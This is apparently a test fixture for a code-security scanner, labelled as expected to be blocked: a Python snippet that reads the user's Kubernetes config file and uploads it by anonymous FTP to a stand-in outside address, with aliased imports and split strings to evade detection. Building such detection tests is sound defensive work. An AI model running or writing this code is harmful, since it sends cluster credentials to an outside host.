# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/kube_config_ftp.py technique: alias+concat
import ftplib as _m0
import os as _m1
path = _m1.path.join(_m1.path.expanduser('~'), '.' + 'k' + 'u' + 'b' + 'e', 'co' + 'nf' + 'ig')
with _m0.FTP('203' + '.0.' + '113' + '.9', 'ano' + 'nym' + 'ous', 'x') as ftp, open(path, 'r' + 'b') as handle:
    ftp.storbinary('STO' + 'R c' + 'onf' + 'ig', handle)
